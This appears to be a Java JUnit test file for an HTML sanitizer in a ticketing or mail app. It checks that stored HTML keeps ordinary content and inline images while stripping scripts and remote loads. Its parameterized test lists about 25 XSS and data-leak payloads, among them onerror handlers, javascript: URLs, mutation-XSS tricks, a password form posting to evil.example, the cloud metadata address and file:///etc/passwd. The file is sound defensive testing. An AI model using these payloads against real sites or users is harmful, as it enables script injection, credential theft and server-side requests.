package dev.onethread.ticket.html;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" &#106;avascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<form action=\"https://evil.example\"><input name=password></form>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<style>@import 'https://evil.example/x.css'</style>",
                "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<img src=\"https://evil.example/pixel.gif\">",
                "<img src=\"http://169.254.169.254/latest/meta-data\">",
                "<img srcset=\"https://evil.example/a.png 1x\" src=cid:none>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<object data=\"x.swf\"></object><embed src=x>",
                "<video src=\"https://evil.example\" autoplay></video>",
                "<body onload=alert(1)>",
                "<img src=\"file:///etc/passwd\"><img src=\"php://filter\">",
                "<template><script>alert(1)</script></template>",
                "<img src=\"cid:x&quot; onerror=&quot;alert(1)\">",
            })
    void nothingRunsAndNothingIsLoadedFromElsewhere(String attack) {
        String document = SafeHtml.document("<p>before</p>" + attack, false, id -> null);
        String body = document.substring(document.indexOf("<body>"));
        assertThat(body)
                .contains("before")
                .doesNotContainIgnoringCase("<script")
                .doesNotContainIgnoringCase("evil.example\"")
                .doesNotContainIgnoringCase("javascript:")
                .doesNotContainIgnoringCase("<iframe")
                .doesNotContainIgnoringCase("<form")
                .doesNotContainIgnoringCase("<svg")
                .doesNotContainIgnoringCase("<style")
                .doesNotContainIgnoringCase("<meta")
                .doesNotContainIgnoringCase("url(")
                .doesNotContainIgnoringCase("src=\"http")
                .doesNotContainIgnoringCase("srcset")
                .doesNotContainPattern("<[^>]*\\son\\w+\\s*=");
    }

    @Test
    void whatPeopleWriteStays() {
        String document = SafeHtml.document(
                "<table width=100><tr><td style=\"color:red;font-weight:bold\">Привет</td></tr></table>"
                        + "<a href=\"https://example.org/?a=1&b=2\">link</a>",
                false,
                id -> null);
        assertThat(document).contains("Привет", "color:red", "https://example.org/?a&#61;1&amp;b&#61;2", "noopener");
    }

    @Test
    void anImageOfTheMailItselfIsShown() {
        String document = SafeHtml.document(
                "<img src=\"cid:logo@example.org\" alt=Logo>",
                false,
                id -> id.equals("logo@example.org") ? "data:image/png;base64,AAAA" : null);
        assertThat(document).contains("src=\"data:image/png;base64,AAAA\"", "alt=\"Logo\"");
    }

    @Test
    void picturesOnTheWebAreNamedOnlyForWhoAskedForThem() {
        String html = "<img src=\"https://tracker.example/p.gif\" alt=P onerror=alert(1)><img src=\"javascript:x\">";
        assertThat(SafeHtml.document(html, false, id -> null)).doesNotContain("src=\"https:");
        assertThat(SafeHtml.document(html, true, id -> null))
                .contains("src=\"https://tracker.example/p.gif\"")
                .doesNotContain("onerror", "javascript:");
        assertThat(SafeHtml.POLICY).contains("img-src data:;");
        assertThat(SafeHtml.POLICY_WITH_PICTURES).contains("img-src data: https: http:;");
    }
}
